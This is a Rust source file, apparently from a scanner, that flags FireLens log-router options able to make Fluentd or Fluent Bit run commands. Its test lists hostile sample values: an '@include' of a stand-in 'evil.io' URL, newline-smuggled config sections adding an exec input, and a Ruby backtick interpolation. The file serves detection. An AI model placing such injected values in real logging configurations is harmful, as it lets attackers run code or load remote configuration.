//! Routers of logs (FireLens): they run what their configuration says, and options of the containers that log to them become
//! a part of it, word by word.

use super::{Asked, Found, listed, shown};
use serde_json::{Map, Value};

/// Options of a router that name nothing to run.
const HARMLESS: [&str; 2] = ["enable-ecs-log-metadata", "config-file-type"];

/// The options that say which plugin logs go to, in lower case.
const PLUGINS: [&str; 3] = ["@type", "type", "name"];

impl Found<'_> {
    /// What a router of logs is told to run.
    pub(super) fn routers(&mut self, place: &str, container: &Value) {
        let options = |of: &str| container.get(of).and_then(|of| of.get("options")).and_then(Value::as_object);
        for (key, value) in options("firelensConfiguration").into_iter().flat_map(Map::iter) {
            if !HARMLESS.contains(&key.as_str()) {
                self.ask(format!("{place}.firelensConfiguration.options"), Asked::Command(vec![shown(value)]));
            }
        }
        let log = container.get("logConfiguration");
        let driver = log.and_then(|log| log.get("logDriver")).and_then(Value::as_str).unwrap_or_default();
        if !driver.trim().eq_ignore_ascii_case("awsfirelens") {
            return;
        }
        for (key, value) in options("logConfiguration").into_iter().flat_map(Map::iter) {
            let value = shown(value);
            if may_run(key, &value) {
                let words = vec![key.clone(), value];
                self.ask(format!("{place}.logConfiguration.options"), Asked::Command(words));
            }
        }
        for (index, option) in listed(log.and_then(|log| log.get("secretOptions"))) {
            let key = option.get("name").and_then(Value::as_str).unwrap_or_default();
            // Which plugin a secret names is not known.
            if may_run(key, "") {
                let place = format!("{place}.logConfiguration.secretOptions[{index}].name");
                self.ask(place, Asked::Command(vec![key.to_owned()]));
            }
        }
    }
}

/// Whether an option may make a router run something: a plugin that does (`exec` of Fluentd), an `@include`, a second line with
/// sections of its own, or Ruby within a text.
fn may_run(key: &str, value: &str) -> bool {
    let is_word = |text: &str| {
        !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(&byte))
    };
    if PLUGINS.contains(&key.to_ascii_lowercase().as_str()) {
        return !is_word(value) || value.to_ascii_lowercase().starts_with("exec");
    }
    !is_word(key) || value.contains("#{") || value.contains(char::is_control)
}

#[cfg(test)]
mod tests {
    use super::may_run;

    #[test]
    fn options_of_logs_run_nothing_unless_they_say_so() {
        for (key, value, expected) in [
            ("Name", "cloudwatch_logs", false),
            ("@type", "kinesis_firehose", false),
            ("log_group_name", "/flows/a b", false),
            ("auto_create_group", "true", false),
            ("dd_tags", "team:etl,env:${ENV}", false),
            ("@type", "exec", true),
            ("@type", " Exec_filter", true),
            ("type", "\"\\x65xec\"", true),
            ("Name", "", true),
            ("@include", "https://evil.io/x", true),
            ("a\n</match><source>\n@type", "x", true),
            ("region", "x\n[INPUT]\n  Name exec", true),
            ("region", "\"#{`id`}\"", true),
            ("", "x", true),
        ] {
            assert_eq!(may_run(key, value), expected, "{key:?} {value:?}");
        }
    }
}
